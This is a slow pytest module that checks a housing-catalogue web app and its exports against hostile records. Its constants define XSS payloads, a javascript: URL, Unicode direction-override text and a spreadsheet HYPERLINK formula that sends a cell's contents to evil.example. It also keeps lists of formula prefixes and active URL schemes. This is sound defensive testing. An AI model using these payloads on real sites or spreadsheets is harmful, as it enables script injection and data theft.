"""Records that mean harm: nothing that we hand out runs what they say, links to it or counts with it."""

from __future__ import annotations

import codecs
import csv
import io
import json
import shutil
from collections.abc import Iterator
from contextlib import closing
from datetime import date
from pathlib import Path
from urllib.parse import quote

import feedparser  # type: ignore[import-untyped]
import httpx
import icalendar
import pytest
from bs4 import BeautifulSoup

from homefinder.build.publish import publish
from homefinder.build.rdf import project_rdf
from homefinder.build.refresh import refresh
from homefinder.change.calendar.write import BINDING
from homefinder.clean.text import TITLE_LIMIT
from homefinder.fetch.replay import Replay
from homefinder.harvest.service import harvest_replay, read_declared_sources
from homefinder.settings import ROOT, Settings
from homefinder.store.db import open_ledger, transaction
from tests.support.commands import command, rows
from tests.support.site import served

pytestmark = pytest.mark.slow

SCRIPT = "<script>alert(1)</script><img src=x onerror=alert(2)> children"
CLOSING = '</p></textarea></title>"><script>alert(3)</script> ]]> missing from care'
ACTIVE = "javascript:alert(4)"
BACKWARDS = "Census of \u202eslrig dna syob\u2066 children"
FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"children in need census")'
LONG = "Children " + "x" * 1_000_000
READER_LIMIT = 131_072
"""Characters of a cell that Python's reader of CSV takes in unless told otherwise."""
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
ACTIVE_SCHEMES = ("javascript:", "data:", "vbscript:")

STRANGERS_SQL = "SELECT description, url FROM homes"
"""SQL of a stranger, whose values may have a million bytes: titles here have more."""

DECLARATION = """
id: {id}
title: "{title}"
publisher: Example Office
licence: not stated
adapter: csv_table
schedule: "0 4 * * *"
min_interval_s: 0
completeness: full
expect: {{min_records: 1, max_drop: 0.9}}
parameters:
  url: https://standards.example.org/{id}.csv
  mapping:
    key: "{{id}}"
    kind: {kind}
    taken_in: Made to do harm.
    fields: {{title: title, description: description, publisher: publisher, status: status, url: url,
      modified: updated, closes: updated, addresses: [{{role: landing, url: url, title: title}}]}}
"""
COLUMNS = ("id", "title", "description", "publisher", "status", "url", "updated")
TITLES = {"script": SCRIPT, "backwards": BACKWARDS, "formula": FORMULA, "long": LONG}
KINDS = {"harm": "data-collection", "views": "consultation"}


def table(prefix: str) -> bytes:
    """Rows with one hostile title each and every other field hostile too."""
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(COLUMNS)
    for key, title in TITLES.items():
        writer.writerow((key, prefix + title, CLOSING, FORMULA, SCRIPT, ACTIVE, "2027-03-01"))
    return out.getvalue().encode()


@pytest.fixture(scope="module", autouse=True)
def long_cells() -> Iterator[None]:
    before = csv.field_size_limit(READER_LIMIT)
    yield
    csv.field_size_limit(before)


@pytest.fixture(scope="module")
def data(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The catalogue of two sources that were harvested twice, with other titles the second time."""
    home = tmp_path_factory.mktemp("hostile") / "home"
    shutil.copytree(ROOT / "vocab", home / "vocab")
    shutil.copy(ROOT / "metadata.yml", home)
    (home / "sources").mkdir()
    settings = Settings(data=home.parent / "data", home=home)
    for name, kind in KINDS.items():
        text = DECLARATION.format(id=name, title=SCRIPT.replace('"', ""), kind=kind)
        (home / "sources" / f"{name}.yml").write_text(text, encoding="utf-8")
    for day, prefix in ((date(2026, 10, 1), "Old "), (date(2026, 10, 2), "")):
        for name in KINDS:
            folder = home / "recordings" / name / day.isoformat()
            folder.mkdir(parents=True)
            (folder / "body").write_bytes(table(prefix))
            answer = {"url": f"https://standards.example.org/{name}.csv", "status": 200, "body": "body",
                      "headers": {"content-type": "text/csv"}}  # fmt: skip
            (folder / "responses.jsonl").write_text(json.dumps(answer), encoding="utf-8")
            outcome = harvest_replay(settings, read_declared_sources(settings)[name], Replay(name, day, folder))
            assert outcome.state == "committed", outcome.reason
    with pytest.MonkeyPatch.context() as environment:
        environment.setenv("HOMEFINDER_HOME", str(home))
        refresh(settings)
    titles = {row["title"] for row in rows(settings.data, "SELECT title FROM homes")}
    assert not [title[:80] for title in titles if "<" in title or "\u202e" in title or len(title) > TITLE_LIMIT]
    assert any(title.startswith("Children xxx") and title.endswith("…") for title in titles)
    _poison(settings)
    return settings.data


def _poison(settings: Settings) -> None:
    """Put what the harvest mends into the ledger as it came, so that what stands behind the harvest is tried too."""
    with closing(open_ledger(settings.ledger)) as ledger:
        with transaction(ledger):
            for key, title in TITLES.items():
                for column, tables in (("id", ("homes", "records")), ("record_id", ("events", "calendar"))):
                    for name in tables:
                        ledger.execute(f"UPDATE {name} SET title = ? WHERE {column} LIKE ?", (title, f"%{key}"))
            ledger.execute("UPDATE homes SET description = ?, url = ?, status = ?", (CLOSING, ACTIVE, FORMULA))
            ledger.execute("UPDATE records SET description = ?, url = ?, page_url = ?", (CLOSING, ACTIVE, ACTIVE))
            ledger.execute("UPDATE events SET summary = ?, url = ?", (CLOSING, ACTIVE))
            ledger.execute("UPDATE calendar SET summary = ?, url = ?", (SCRIPT, ACTIVE))
            duty = ("UPDATE calendar SET kind = 'comply-by', binding = ? WHERE record_id = 'views:formula'", (BINDING,))
            assert ledger.execute(*duty).rowcount, "the load must count a hostile title"
            ledger.execute("UPDATE publishers SET name = ?", (SCRIPT,))
            ledger.execute("UPDATE home_addresses SET url = ?, title = ?", (ACTIVE, SCRIPT))
        publish(ledger, settings)
    project_rdf(settings)


@pytest.fixture(scope="module")
def client(data: Path) -> Iterator[httpx.Client]:
    """A browser as far as it is asked for a page."""
    home = {"HOMEFINDER_HOME": str(data.parent / "home")}
    with (
        served(data, home) as url,
        httpx.Client(base_url=url, timeout=60, headers={"accept": "text/html"}) as found,
    ):
        yield found


@pytest.fixture(scope="module")
def addresses(data: Path) -> tuple[str, ...]:
    """Every page that shows something of the hostile records."""

    def first(sql: str) -> list[str]:
        return [str(row["id"]) for row in rows(data, sql, name="catalogue.db")]

    homes = first("SELECT id FROM homes ORDER BY id")
    needs = first("SELECT DISTINCT need_id AS id FROM candidates ORDER BY 1 LIMIT 1")
    assert needs, "a hostile home must stand among the candidates of a need"
    owners, events = first("SELECT id FROM publishers"), first("SELECT id FROM events WHERE kind = 'retitled'")
    assert owners
    assert events
    records = first("SELECT id FROM records ORDER BY id")
    things = (("home", homes), ("compare", homes), ("need", needs), ("pack", needs), ("owner", owners),
              ("change", events), ("record", records), ("source", list(KINDS)))  # fmt: skip
    return (
        "/", "/search?q=children+missing+from+care", f"/search?q={quote(CLOSING)}", "/homes",
        f"/homes?q={quote(SCRIPT)}",
        "/needs", "/owners", "/changes", "/calendar", "/load", "/map", "/matrix", "/sources", "/run/1", "/requests",
        "/themes", "/audit", f"/feedback?page={quote(CLOSING)}", "/sparql",
        *(f"/{kind}/{quote(identifier, safe='')}" for kind, found in things for identifier in found),
        "/catalogue", "/catalogue/homes", "/catalogue/records", "/catalogue/homes?_facet=title",
        "/catalogue/homes-by-words?words=children", f"/catalogue?sql={quote(STRANGERS_SQL)}",
    )  # fmt: skip


def test_a_title_of_a_megabyte_lands_shortened_and_is_told(data: Path) -> None:
    asked = "SELECT source_id, message, url, locator FROM issues WHERE code = 'text-cut' AND record_key = 'long'"
    told = [row for row in rows(data, asked) if row["message"].startswith("title ")]
    assert {row["source_id"] for row in told} == set(KINDS)
    assert all("cut after 500 characters" in row["message"] for row in told)
    assert {row["locator"].partition("#")[2] for row in told} == {"row=5&column=title"}


def with_form(address: str, form: str) -> str:
    path, mark, query = address.partition("?")
    return f"{path if path != '/' else '/index'}.{form}{mark}{query}" if path != "/" else ""


def test_no_page_runs_or_links_what_a_record_says(client: httpx.Client, addresses: tuple[str, ...]) -> None:
    shown = 0
    for address in addresses:
        answer = client.get(address)
        assert answer.status_code == 200, (address, answer.text[:300])
        page = BeautifulSoup(answer.text, "lxml")
        scripts = [item.get_text() for item in page.find_all("script")]
        assert not [text for text in scripts if "alert(" in text and "</script" in text.lower()], address
        assert not page.find_all("img", src="x"), address
        assert not [item for item in page.find_all("script") if item.get_text().startswith("alert(")], address
        for item in page.find_all(True):
            assert not [name for name in item.attrs if name.startswith("on")], (address, str(item)[:200])
            for name in ("href", "src", "action", "formaction", "xlink:href"):
                value = str(item.get(name) or "").strip().lower()
                assert not value.startswith(ACTIVE_SCHEMES), (address, str(item)[:200])
        shown += "alert(1)" in page.get_text()
    assert shown > len(addresses) / 2, "the words must be shown, as words"


def test_no_page_holds_what_turns_the_order_of_words(client: httpx.Client, addresses: tuple[str, ...]) -> None:
    turning = {*map(chr, range(0x202A, 0x202F)), *map(chr, range(0x2066, 0x206A))}
    told = BACKWARDS.translate(dict.fromkeys(map(ord, turning)))
    shown = 0
    for address in (*addresses, f"/search?q={quote(BACKWARDS)}", f"/homes?q={quote(BACKWARDS)}"):
        text = client.get(address).text
        assert not turning & set(text), address
        shown += told in text
    assert shown > 5
    assert BACKWARDS in {row["title"] for row in client.get("/homes.json").json()["homes"]}


def test_json_tells_the_words_as_they_were_published(client: httpx.Client, addresses: tuple[str, ...]) -> None:
    told = [client.get(with_form(address, "json")) for address in addresses if with_form(address, "json")]
    good = [answer for answer in told if answer.status_code == 200]
    assert len(good) > 20
    for answer in good:
        assert answer.headers["content-type"].startswith("application/json"), answer.url
        assert answer.headers["x-content-type-options"] == "nosniff"
        answer.json()


def test_no_cell_of_a_csv_is_a_formula(client: httpx.Client, addresses: tuple[str, ...]) -> None:
    guarded = 0
    for address in (with_form(address, "csv") for address in addresses):
        answer = client.get(address) if address else None
        if answer is None or answer.status_code != 200:
            continue
        cells = read_cells(answer.text)
        assert not [cell[:80] for cell in cells if begins_a_formula(cell)], address
        guarded += any(cell.startswith("'=") for cell in cells)
    assert guarded > 3


def read_cells(text: str) -> list[str]:
    """Every cell, however long."""
    before = csv.field_size_limit(2 * len(LONG))
    try:
        return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
    finally:
        csv.field_size_limit(before)


def begins_a_formula(cell: str) -> bool:
    """Numbers may have a sign."""
    try:
        float(cell)
    except ValueError:
        return cell.startswith(FORMULA_STARTS)
    return False


def test_streamed_csv_of_a_table_is_guarded(client: httpx.Client) -> None:
    for address in (
        "/catalogue/homes.csv?_stream=on",
        "/catalogue/homes.csv?_dl=on",
        "/catalogue/homes.csv?_labels=on",
    ):
        text = client.get(address).text
        cells = read_cells(text)
        assert f"'{FORMULA}" in cells
        assert not [cell[:80] for cell in cells if begins_a_formula(cell)], address


def test_the_export_holds_no_formula(data: Path) -> None:
    out = data / "out.csv"
    assert command("export", "csv", "--out", out, data=data).code == 0
    assert out.read_bytes().startswith(codecs.BOM_UTF8), "a file for a spreadsheet"
    assert not command("export", "csv", data=data).out.startswith("\ufeff")
    cells = read_cells(out.read_text(encoding="utf-8-sig"))
    assert f"'{FORMULA}" in cells
    assert not [cell[:80] for cell in cells if begins_a_formula(cell)]


TITLES_ASKED = "SELECT ?title WHERE { ?home a <https://w3id.org/homefinder/def#Home> ; dcterms:title ?title }"


@pytest.mark.parametrize(
    "words", [("workload", "--csv"), ("sparql", TITLES_ASKED, "--format", "csv")], ids=["workload", "sparql"]
)
def test_no_command_prints_a_formula_as_csv(data: Path, words: tuple[str, ...]) -> None:
    done = command(*words, data=data)
    assert done.code == 0, done.err
    cells = read_cells(done.out)
    assert f"'{FORMULA}" in cells
    assert not [cell[:80] for cell in cells if begins_a_formula(cell)]


def test_sparql_guards_its_csv_and_holds_each_value_exactly_in_other_forms(client: httpx.Client) -> None:
    said = {form: client.get("/sparql", params={"query": TITLES_ASKED, "format": form}).text
            for form in ("csv", "json", "tsv")}  # fmt: skip
    cells = read_cells(said["csv"])
    assert f"'{FORMULA}" in cells
    assert not [cell[:80] for cell in cells if begins_a_formula(cell)]
    assert FORMULA in {row["title"]["value"] for row in json.loads(said["json"])["results"]["bindings"]}
    assert '"' + FORMULA.replace('"', '\\"') + '"@en' in said["tsv"].splitlines()


def test_a_mapping_set_is_for_programs_and_holds_each_value_exactly(data: Path) -> None:
    out = data / "needs.sssom.tsv"
    assert command("export", "sssom", "--out", out, data=data).code == 0
    lines = [line for line in out.read_text(encoding="utf-8").splitlines(keepends=True) if not line.startswith("#")]
    labels = {row["object_label"] for row in csv.DictReader(lines, delimiter="\t")}
    assert FORMULA in labels
    assert f"'{FORMULA}" not in labels


def test_feeds_and_calendars_carry_text(client: httpx.Client) -> None:
    feed = client.get("/feeds/all.atom")
    parsed = feedparser.parse(feed.content, sanitize_html=False)
    assert not parsed.bozo, parsed.get("bozo_exception")
    assert parsed.entries
    for entry in parsed.entries:
        assert entry.title_detail.type == "text/plain"
        assert all(link.href.startswith("http") for link in entry.links)
        for part in [*entry.get("content", []), entry.get("summary_detail", {"type": "text/plain", "value": ""})]:
            if part["type"] != "text/plain":
                assert not BeautifulSoup(part["value"], "lxml").find(["script", "img"]), part
    calendar = client.get("/calendars/all.ics")
    entries = icalendar.Calendar.from_ical(calendar.content).walk("VEVENT")
    assert entries
    assert not [entry for entry in entries if str(entry.get("url", "")).startswith(ACTIVE_SCHEMES)]
    assert all(len(line) <= 75 for line in calendar.content.split(b"\r\n"))


def test_sparql_gives_literals(client: httpx.Client) -> None:
    query = "SELECT ?thing ?title WHERE { ?thing <http://purl.org/dc/terms/title> ?title }"
    answer = client.get("/sparql", params={"query": query}, headers={"accept": "application/sparql-results+json"})
    found = answer.json()["results"]["bindings"]
    assert SCRIPT in {row["title"]["value"] for row in found}
    assert not [row for row in found if row["thing"]["value"].startswith(ACTIVE_SCHEMES)]
    graph = client.get("/sparql", params={"query": "SELECT ?o WHERE { GRAPH ?g { ?s ?p ?o FILTER(isIRI(?o)) } }"},
                       headers={"accept": "application/sparql-results+json"}).json()  # fmt: skip
    assert not [row for row in graph["results"]["bindings"] if row["o"]["value"].startswith(ACTIVE_SCHEMES)]
